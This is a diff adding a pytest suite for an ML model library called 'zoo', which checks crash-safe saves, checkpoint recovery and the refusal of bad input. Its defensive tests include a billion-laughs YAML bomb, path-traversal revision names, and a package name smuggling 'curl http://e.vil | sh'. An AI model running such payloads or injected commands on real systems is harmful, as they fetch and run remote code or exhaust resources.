@@ -1,0 +1,524 @@
+"""What zoo promises when things go wrong (docs/promises.md): a kill or a second
+process at the worst moment loses nothing, no input hangs, and bad input gets one of
+zoo's errors naming what is wrong. Faults are injected in subprocesses by patching
+the call at which the process should die or pause."""
+
+from __future__ import annotations
+
+import json
+import os
+import stat
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+import torch
+from safetensors.torch import load_file, save_file
+
+import zoo
+from zoo.artifact import CONFIG_NAME, INDEX_NAME, WEIGHTS_NAME, weight_digests
+from zoo.training.checkpoint import latest_checkpoint
+
+from .conftest import run_zoo
+from .test_training import TINY, rows
+
+SEEDED = "import torch; torch.manual_seed({seed}); import zoo\n"
+
+
+def python(code: str, *args: str, timeout: float = 120, env: dict | None = None):
+    """Run ``code`` in a fresh interpreter; a hang fails the test instead of hanging it."""
+    return subprocess.run([sys.executable, "-c", code, *map(str, args)], capture_output=True,
+                          text=True, timeout=timeout, env={**os.environ, **(env or {})})
+
+
+def tiny(seed: int, **overrides):
+    torch.manual_seed(seed)
+    return zoo.build("transformer-tiny", dropout=0.0, **overrides).eval()
+
+
+def outputs(model) -> torch.Tensor:
+    x = torch.arange(4, 40).reshape(4, 9)
+    with torch.no_grad():
+        return model.eval()(x, x)
+
+
+def same(a, b) -> bool:
+    return torch.equal(outputs(a), outputs(b))
+
+
+# -- 1. a save over an existing folder is one atomic switch -------------------------------------
+KILL_BETWEEN_RENAMES = SEEDED.format(seed=2) + """
+import os, sys, zoo.files as files
+files._exchange = lambda a, b: False      # where the system cannot swap: two renames
+real = os.replace
+def replace(src, dst):
+    real(src, dst)
+    if ".old-" in str(dst):               # the old folder is aside, the new one not in yet
+        os._exit(9)
+os.replace = replace
+zoo.save_pretrained(zoo.build("transformer-tiny", dropout=0.0, ffn="gelu"), sys.argv[1])
+"""
+
+
+def test_a_save_killed_between_its_renames_leaves_the_old_model(tmp_path):
+    old = tiny(1)
+    folder = zoo.save_pretrained(old, tmp_path / "m")
+    done = python(KILL_BETWEEN_RENAMES, folder)
+    assert done.returncode == 9, done.stderr
+    assert not folder.exists()  # the moment the kill left behind
+    assert same(zoo.build(f"local-dir:{folder}"), old)  # recovered: the old save, whole
+    new = tiny(2, ffn="gelu")
+    zoo.save_pretrained(new, folder)
+    assert same(zoo.build(f"local-dir:{folder}"), new)
+    assert sorted(p.name for p in tmp_path.iterdir()) == [".m.lock", "m"]
+
+
+KILL_AT_CONFIG = SEEDED.format(seed=2) + """
+import os, sys
+real = os.replace
+def replace(src, dst):
+    real(src, dst)
+    if os.path.basename(str(dst)) == "config.json" and "tmp" not in os.path.basename(
+            os.path.dirname(str(dst))):
+        os._exit(9)                       # a new config.json is in place: die before weights
+os.replace = replace
+zoo.save_pretrained(zoo.build("transformer-tiny", dropout=0.0, ffn="gelu"), sys.argv[1])
+"""
+
+
+def test_a_killed_save_never_pairs_a_new_config_with_old_weights(tmp_path):
+    old = tiny(1)
+    folder = zoo.save_pretrained(old, tmp_path / "m")
+    done = python(KILL_AT_CONFIG, folder)
+    assert done.returncode in (0, 9), done.stderr
+    loaded = zoo.build(f"local-dir:{folder}")  # relu and gelu have the same shapes
+    assert same(loaded, old) or same(loaded, tiny(2, ffn="gelu"))
+
+
+def test_a_config_is_refused_with_weights_it_was_not_saved_with(tmp_path):
+    a = zoo.save_pretrained(tiny(1), tmp_path / "a")
+    b = zoo.save_pretrained(tiny(2, ffn="gelu"), tmp_path / "b")
+    (a / CONFIG_NAME).write_bytes((b / CONFIG_NAME).read_bytes())  # b's config, a's weights
+    with pytest.raises(zoo.ArtifactError, match="not the weights its config.json was saved"):
+        zoo.build(f"local-dir:{a}")
+
+
+def test_a_sharded_save_replaced_by_a_single_file_leaves_no_index(tmp_path):
+    model = tiny(1)
+    folder = zoo.save_pretrained(model, tmp_path / "m", max_shard_size="200KB")
+    (folder / "notes.txt").write_text("mine")
+    zoo.save_pretrained(model, folder)
+    assert sorted(p.name for p in folder.iterdir()) == ["README.md", CONFIG_NAME, WEIGHTS_NAME,
+                                                        "notes.txt"]
+    assert not (folder / INDEX_NAME).exists() and same(zoo.build(f"local-dir:{folder}"), model)
+
+
+# -- 2. two saves of one folder take turns ----------------------------------------------------
+SAVE = SEEDED.format(seed=3) + """
+import sys
+zoo.save_pretrained(zoo.build("transformer-tiny", dropout=0.0), sys.argv[1])
+print("saved")
+"""
+
+
+def test_a_save_waits_for_another_save_of_the_same_folder(tmp_path):
+    from filelock import FileLock
+
+    folder = tmp_path / "m"
+    with FileLock(str(tmp_path / ".m.lock")):  # another save is writing m
+        procs = [subprocess.Popen([sys.executable, "-c", SAVE, str(folder)],
+                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+                 for _ in range(2)]
+        time.sleep(8)
+        assert not folder.exists() and all(p.poll() is None for p in procs)
+    for p in procs:
+        out, err = p.communicate(timeout=120)
+        assert p.returncode == 0 and "saved" in out, err  # neither lost a race
+    assert same(zoo.build(f"local-dir:{folder}"), tiny(3))
+
+
+# -- 3. a checkpoint step saved twice -----------------------------------------------------------
+KILL_SECOND_SAVE = """
+import json, os, sys, zoo, zoo.files as files
+files._exchange = lambda a, b: False
+real = os.replace
+def replace(src, dst):
+    real(src, dst)
+    if ".step-00000004.old-" in str(dst):   # step 4 saved again: the first copy is aside
+        os._exit(9)
+os.replace = replace
+zoo.train("sort", overrides=json.loads(sys.argv[2]), run_dir=sys.argv[1], progress=False)
+"""
+
+
+def test_a_step_saved_twice_and_killed_between_still_resumes(tmp_path):
+    overrides = {**TINY, "train.steps": 4, "train.checkpoint_every": 2}
+    done = python(KILL_SECOND_SAVE, tmp_path / "run", json.dumps(overrides))
+    assert done.returncode == 9, done.stderr
+    latest = latest_checkpoint(tmp_path / "run")
+    assert latest is not None and latest.name == "step-00000004"
+    assert zoo.train(resume=tmp_path / "run", progress=False).step == 4
+
+
+def test_resume_falls_back_to_the_newest_whole_checkpoint(tmp_path):
+    run = zoo.train("sort", overrides={**TINY, "train.steps": 4, "train.checkpoint_every": 2},
+                    run_dir=tmp_path / "run", progress=False).run_dir
+    (run / "checkpoints" / "latest").write_text("step-00000099\n")  # names nothing
+    assert latest_checkpoint(run).name == "step-00000004"
+    (run / "checkpoints" / "latest").write_bytes(b"\xff\xfe\x00")  # not even text
+    assert latest_checkpoint(run).name == "step-00000004"
+
+
+# -- 4. a failed --resume --set changes nothing -------------------------------------------------
+def test_resume_with_overrides_that_do_not_fit_writes_nothing(tmp_path):
+    overrides = {**TINY, "train.steps": 6, "train.checkpoint_every": 2}
+    zoo.train("sort", overrides=overrides, run_dir=tmp_path / "run", progress=False,
+              stop_after_steps=2)
+    before = (tmp_path / "run" / "train.yaml").read_bytes()
+    with pytest.raises(zoo.RecipeError, match="do not fit the checkpoint.*nothing was written"):
+        zoo.train(resume=tmp_path / "run", overrides={"model.d_model": 64}, progress=False)
+    assert (tmp_path / "run" / "train.yaml").read_bytes() == before
+    assert zoo.train(resume=tmp_path / "run", progress=False).step == 6
+
+
+# -- 5. no dead-end run folders -----------------------------------------------------------------
+KILL_BEFORE_FIRST_CHECKPOINT = """
+import json, os, sys, zoo, zoo.training.loop as loop
+loop.save_checkpoint = lambda *a, **k: os._exit(9)
+zoo.train("sort", overrides=json.loads(sys.argv[2]), run_dir=sys.argv[1], progress=False)
+"""
+
+
+def test_a_run_killed_before_its_first_checkpoint_resumes_from_the_start(tmp_path):
+    overrides = {**TINY, "train.steps": 5, "train.checkpoint_every": 3}
+    done = python(KILL_BEFORE_FIRST_CHECKPOINT, tmp_path / "run", json.dumps(overrides))
+    assert done.returncode == 9, done.stderr
+    with pytest.warns(RuntimeWarning, match="no checkpoint yet.*from step 0"):
+        result = zoo.train(resume=tmp_path / "run", progress=False)
+    assert result.step == 5
+    assert [r["step"] for r in rows(tmp_path / "run")] == [1, 2, 3, 4, 5]  # no repeated rows
+
+
+# -- 6. leftovers of killed writes go; modes follow the umask -----------------------------------
+KILL_AFTER_SWAP = SEEDED.format(seed=2) + """
+import os, sys, zoo.files as files
+real = files._exchange
+def exchange(a, b):
+    assert real(a, b)
+    os._exit(9)                           # swapped; the old version still lies aside
+files._exchange = exchange
+zoo.save_pretrained(zoo.build("transformer-tiny", dropout=0.0), sys.argv[1])
+"""
+
+
+def test_leftovers_of_a_killed_save_are_removed_by_the_next(tmp_path):
+    folder = zoo.save_pretrained(tiny(1), tmp_path / "m")
+    done = python(KILL_AFTER_SWAP, folder)
+    assert done.returncode == 9, done.stderr
+    assert any(p.name.startswith(".m.tmp-") for p in tmp_path.iterdir())
+    assert same(zoo.build(f"local-dir:{folder}"), tiny(2))  # the swap had happened
+    zoo.save_pretrained(tiny(1), folder)
+    assert sorted(p.name for p in tmp_path.iterdir()) == [".m.lock", "m"]
+
+
+def test_checkpoint_leftovers_are_removed_when_the_run_saves_again(tmp_path):
+    from .test_training import KILLER
+
+    overrides = {**TINY, "train.steps": 30, "train.checkpoint_every": 10}
+    done = python("import json\n" + KILLER, tmp_path / "run", json.dumps(overrides))
+    assert done.returncode == 9, done.stderr
+    folder = tmp_path / "run" / "checkpoints"
+    assert any(p.name.startswith(".step-") for p in folder.iterdir())
+    zoo.train(resume=tmp_path / "run", progress=False)
+    assert not [p.name for p in folder.iterdir() if p.name.startswith(".")]
+
+
+def test_saved_files_get_the_umasks_modes(tmp_path):
+    old = os.umask(0o022)
+    try:
+        folder = zoo.save_pretrained(tiny(1), tmp_path / "m")
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o755
+    assert {stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()} == {0o644}
+
+
+# -- 7. nothing hangs: inputs are bounded before anything reads them whole ----------------------
+LAUGHS = "\n".join(["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
+                   + [f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]"
+                      for p, c in zip("abcdefgh", "bcdefghi")])
+
+
+def test_a_billion_laughs_recipe_is_refused_at_once(tmp_path):
+    path = tmp_path / "laughs.yaml"
+    path.write_text("name: laughs\narchitecture: seq2seq\n" + LAUGHS + "\ndescription: *i\n")
+    done = python("import sys, zoo\nzoo.build(sys.argv[1])", path, timeout=60)
+    assert "RecipeError" in done.stderr and "YAML aliases count" in done.stderr
+    assert len(done.stderr) < 5000  # the error quotes a little, not the expansion
+
+
+def test_a_billion_laughs_set_value_and_override_are_refused_at_once():
+    value = "{" + LAUGHS.replace("\n", ", ").replace(": &", ": &") + "}"
+    done = run_zoo("info", "transformer-tiny", "--set", f"norm.eps={value}")
+    assert done.returncode == 2 and "YAML aliases count" in done.stderr, done.stderr[-2000:]
+    code = ("import zoo\nx = [1.0]\nfor _ in range(25):\n    x = [x, x]\n"
+            "zoo.build('transformer-tiny', **{'norm.eps': x})")
+    done = python(code, timeout=60)
+    assert "RecipeError" in done.stderr and "more than 20,000 values" in done.stderr
+
+
+# -- 8. the memory guard refuses before it allocates -------------------------------------------
+def test_a_model_too_large_is_refused_without_allocating_it():
+    code = ("import zoo\nzoo.build('transformer-tiny', d_model=2**16, n_heads=2**10, "
+            "max_len=2**20, d_ff=64)")
+    done = python(code, timeout=60)
+    assert "MemoryBudgetError" in done.stderr and "Nothing was allocated" in done.stderr
+
+
+@pytest.mark.parametrize("override", [{"d_model": 10**9}, {"encoder_layers": 10**6},
+                                      {"encoder_layers": 10**30}])
+def test_absurd_sizes_are_refused_at_once(override):
+    code = f"import zoo\nzoo.build('transformer-tiny', **{override!r})"
+    done = python(code, timeout=60)
+    assert "RecipeError" in done.stderr, done.stderr[-1000:]
+
+
+# -- 9. one of zoo's errors, naming the value ---------------------------------------------------
+def test_files_that_are_not_utf8_are_named(tmp_path):
+    recipe = tmp_path / "r.yaml"
+    recipe.write_bytes(b"name: caf\xe9\n")
+    with pytest.raises(zoo.RecipeError, match="not UTF-8 text"):
+        zoo.build(recipe)
+    train = tmp_path / "t.yaml"
+    train.write_bytes(b"name: x\xff\n")
+    with pytest.raises(zoo.RecipeError, match="not UTF-8 text"):
+        zoo.train(train, progress=False)
+    run = zoo.train("sort", overrides={**TINY, "train.steps": 2}, run_dir=tmp_path / "run",
+                    progress=False).run_dir
+    (run / "train.yaml").write_bytes(b"\xff" + (run / "train.yaml").read_bytes())
+    with pytest.raises(zoo.RecipeError, match="not UTF-8 text"):
+        zoo.train(resume=run, progress=False)
+
+
+def test_deep_nesting_and_set_syntax_errors_are_recipe_errors(tmp_path):
+    deep = tmp_path / "deep.yaml"
+    deep.write_text("[" * 5000 + "]" * 5000)
+    with pytest.raises(zoo.RecipeError, match="nested"):
+        zoo.build(deep)
+    done = run_zoo("info", "transformer-tiny", "--set", "norm={name: [rmsnorm")
+    assert done.returncode == 2 and "--set norm: not valid YAML" in done.stderr
+    assert "Traceback" not in done.stderr
+
+
+@pytest.mark.parametrize("overrides", [{"model.d_model": 10**30}, {"train.seed": 10**17}])
+def test_integers_too_large_for_torch_are_recipe_errors(overrides, tmp_path):
+    with pytest.raises(zoo.RecipeError):
+        zoo.train("sort", overrides={**TINY, **overrides}, run_dir=tmp_path / "r",
+                  progress=False)
+    assert not (tmp_path / "r").exists()
+
+
+@pytest.fixture
+def saved(tmp_path) -> Path:
+    return zoo.save_pretrained(tiny(1), tmp_path / "m")
+
+
+def edit_config(folder: Path, edit) -> None:
+    config = json.loads((folder / CONFIG_NAME).read_text())
+    edit(config)
+    (folder / CONFIG_NAME).write_text(json.dumps(config))
+
+
+def rewrite_weights(folder: Path, state: dict) -> None:
+    """A crafted artifact: other weights, with digests that match them."""
+    save_file(state, str(folder / WEIGHTS_NAME))
+    edit_config(folder, lambda c: c.__setitem__("weights", {"digests": weight_digests(folder)}))
+
+
+def test_a_format_version_of_the_wrong_type_is_named(saved):
+    edit_config(saved, lambda c: c.__setitem__("format_version", "2"))
+    with pytest.raises(zoo.ArtifactError, match="format_version '2'; it is a whole number"):
+        zoo.build(f"local-dir:{saved}")
+
+
+def test_an_index_with_shard_names_that_are_not_strings_is_named(tmp_path):
+    folder = zoo.save_pretrained(tiny(1), tmp_path / "m", max_shard_size="200KB")
+    index = json.loads((folder / INDEX_NAME).read_text())
+    index["weight_map"] = {k: 7 for k in index["weight_map"]}
+    (folder / INDEX_NAME).write_text(json.dumps(index))
+    with pytest.raises(zoo.ArtifactError, match="index.json is malformed"):
+        zoo.build(f"local-dir:{folder}")
+
+
+def test_requires_names_packages():
+    data = zoo.get_recipe("transformer-tiny").to_dict()
+    data["requires"] = [""]
+    with pytest.raises(zoo.RecipeError, match="requires lists package names"):
+        zoo.Recipe.from_dict(data)
+
+
+def test_out_naming_a_file_is_refused(tmp_path):
+    (tmp_path / "file").write_text("not a folder")
+    with pytest.raises(zoo.RecipeError, match="is a file"):
+        zoo.train("sort", overrides={**TINY, "train.steps": 1}, run_dir=tmp_path / "file",
+                  progress=False)
+    assert (tmp_path / "file").read_text() == "not a folder"
+
+
+@pytest.mark.parametrize("damage", ["state", "weights"])
+def test_a_corrupt_checkpoint_is_a_checkpoint_error(tmp_path, damage):
+    run = zoo.train("sort", overrides={**TINY, "train.steps": 4, "train.checkpoint_every": 2},
+                    run_dir=tmp_path / "run", progress=False, stop_after_steps=2).run_dir
+    latest = latest_checkpoint(run)
+    target = latest / ("state.pt" if damage == "state" else WEIGHTS_NAME)
+    target.write_bytes(target.read_bytes()[:100])
+    with pytest.raises(zoo.ZooError, match=f"checkpoint {latest} cannot be resumed from"):
+        zoo.train(resume=run, progress=False)
+
+
+def test_a_full_disk_while_checkpointing_says_so_and_keeps_the_last(tmp_path, monkeypatch):
+    import shutil as sh
+
+    import zoo.training.checkpoint as ck
+
+    calls = []
+    real_save, real_usage = torch.save, sh.disk_usage
+
+    def full(obj, path, *args, **kwargs):
+        calls.append(path)
+        if len(calls) >= 2:  # the second checkpoint finds the disk full, as torch says it
+            raise RuntimeError("[enforce fail at inline_container.cc:664] . unexpected pos "
+                               "64 vs 0 PytorchStreamWriter failed writing file data/0: "
+                               "file write failed")
+        return real_save(obj, path, *args, **kwargs)
+
+    monkeypatch.setattr(ck.torch, "save", full)
+    monkeypatch.setattr(sh, "disk_usage",
+                        lambda p: real_usage(p)._replace(free=0) if calls else real_usage(p))
+    with pytest.raises(zoo.ZooError) as err:
+        zoo.train("sort", overrides={**TINY, "train.steps": 6, "train.checkpoint_every": 2},
+                  run_dir=tmp_path / "run", progress=False)
+    assert "is full" in str(err.value) and "step 2 is kept" in str(err.value)
+    assert latest_checkpoint(tmp_path / "run").name == "step-00000002"
+    assert not [p for p in (tmp_path / "run" / "checkpoints").iterdir() if p.name[0] == "."]
+
+
+def test_push_to_a_repo_id_with_a_revision_is_refused():
+    with pytest.raises(zoo.ArtifactError, match="revision='main'"):
+        zoo.push_to_hub(tiny(1), "alice/x@main")
+
+
+def test_a_short_last_batch_cut_into_more_micro_batches_than_it_has_trains(tmp_path):
+    overrides = {**TINY, "task.num_samples": 72, "train.batch_size": 16, "train.accumulate": 16,
+                 "train.epochs": 1}
+    result = zoo.train("sort", overrides=overrides, run_dir=tmp_path / "run", progress=False)
+    assert result.step == 5  # 72 examples: four batches of 16 and one of 8
+
+
+# -- 10. a revision cannot reach outside the cache ----------------------------------------------
+@pytest.mark.parametrize("name", ["hf-hub:alice/x@../../../../escape", "hf-hub:alice/x@/abs",
+                                  "hf-hub:alice/x@a\nb"])
+def test_revisions_are_git_ref_names(name, tmp_path, monkeypatch):
+    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
+    monkeypatch.chdir(tmp_path)
+    with pytest.raises(zoo.ArtifactError, match="is not a branch, tag or commit name"):
+        zoo.build(name)
+    with pytest.raises(zoo.ArtifactError, match="is not a branch, tag or commit name"):
+        zoo.get_recipe(name)
+    assert not any(tmp_path.rglob("*escape*"))
+
+
+def test_published_weights_revisions_and_pull_are_checked_too(monkeypatch):
+    data = zoo.get_recipe("vit-tiny-patch16-224").to_dict()
+    data["weights"]["revision"] = "../../x"
+    with pytest.raises(zoo.RecipeError, match="is not a branch, tag or commit name"):
+        zoo.Recipe.from_dict(data)
+    done = run_zoo("pull", "alice/x@../../x", env={"HF_HUB_OFFLINE": "1"})
+    assert done.returncode == 2 and "is not a branch, tag or commit name" in done.stderr
+
+
+# -- 11. the missing-plugin hint is never a command to paste ------------------------------------
+def test_a_hostile_distribution_name_is_not_offered_to_pip(saved):
+    def edit(config):
+        config["components"]["norm"].update(name="evil-norm",
+                                            distribution="x; curl http://e.vil | sh")
+    edit_config(saved, edit)
+    with pytest.raises(zoo.MissingPluginError) as err:
+        zoo.build(f"local-dir:{saved}")
+    assert "pip install x" not in str(err.value) and "not a package name" in str(err.value)
+
+
+# -- 12. weights that should not load silently --------------------------------------------------
+def test_nonfinite_weights_warn(tmp_path):
+    model = tiny(1)
+    with torch.no_grad():
+        model.encoder.layers[0].ffn.fc1.weight[0, 0] = float("nan")
+    folder = zoo.save_pretrained(model, tmp_path / "m")
+    with pytest.warns(RuntimeWarning, match="NaN or infinite.*encoder.layers.0.ffn.fc1.weight"):
+        zoo.build(f"local-dir:{folder}")
+
+
+def test_integer_tensors_for_float_weights_are_refused(saved):
+    state = load_file(saved / WEIGHTS_NAME)
+    key = "encoder.layers.0.ffn.fc1.weight"
+    state[key] = torch.ones_like(state[key], dtype=torch.int64)
+    rewrite_weights(saved, state)
+    with pytest.raises(zoo.ArtifactError, match=f"wrong kinds of number: {key}: the model "
+                                                "holds torch.float32, the file torch.int64"):
+        zoo.build(f"local-dir:{saved}")
+
+
+def test_tied_aliases_stored_with_different_values_are_refused(saved):
+    state = load_file(saved / WEIGHTS_NAME)
+    model = tiny(1)
+    tied = next(g for g in zoo.artifact._tied_groups(model) if len(g) > 1)
+    stored = next(n for n in tied if n in state)
+    for name in tied:
+        state[name] = state[stored].clone()
+    state[tied[-1]][0, 0] += 1.0
+    rewrite_weights(saved, state)
+    with pytest.raises(zoo.ArtifactError, match="tied weights.*different values"):
+        zoo.build(f"local-dir:{saved}")
+
+
+# -- 13. settings that make no sense ------------------------------------------------------------
+def test_settings_that_make_no_sense_are_refused(tmp_path):
+    with pytest.raises(zoo.RecipeError, match="not a number a setting can take"):
+        zoo.build("transformer-tiny", **{"norm.eps": float("inf")})
+    with pytest.raises(zoo.RecipeError, match="eps"):
+        zoo.get_component("norm", "layernorm").build({"eps": float("inf")}, dim=4)
+    with pytest.raises(zoo.RecipeError, match="pad_id 1000 is not a token"):
+        zoo.build("transformer-tiny", pad_id=1000)
+    with pytest.raises(zoo.RecipeError, match="cannot name a run"):
+        zoo.train("sort", overrides={**TINY, "train.name": str(tmp_path / "escape")},
+                  progress=False)
+
+
+def test_a_model_override_the_task_replaces_is_said(tmp_path):
+    with pytest.warns(UserWarning, match="model.vocab_size=500 is replaced by 13"):
+        zoo.train("sort", overrides={**TINY, "train.steps": 1, "model.vocab_size": 500},
+                  run_dir=tmp_path / "run", progress=False)
+
+
+def test_a_nan_loss_stops_the_run_and_keeps_the_last_checkpoint(tmp_path, monkeypatch):
+    from zoo.plugins.tasks._seq2seq import Seq2SeqTask
+
+    real, calls = Seq2SeqTask.loss, []
+
+    def breaks_at_step_3(self, model, batch, label_smoothing=0.0):
+        loss, units = real(self, model, batch, label_smoothing)
+        calls.append(1)
+        return (loss * float("nan") if len(calls) == 3 else loss), units
+
+    monkeypatch.setattr(Seq2SeqTask, "loss", breaks_at_step_3)
+    with pytest.raises(zoo.ZooError, match="loss became nan at step 3.*step 2 is kept"):
+        zoo.train("sort", overrides={**TINY, "train.steps": 6, "train.checkpoint_every": 2},
+                  run_dir=tmp_path / "run", progress=False)
+    latest = latest_checkpoint(tmp_path / "run")
+    assert latest.name == "step-00000002"
+    weights = load_file(latest / WEIGHTS_NAME)
+    assert all(torch.isfinite(t).all() for t in weights.values())
+    monkeypatch.setattr(Seq2SeqTask, "loss", real)
+    assert zoo.train(resume=tmp_path / "run", progress=False).step == 6
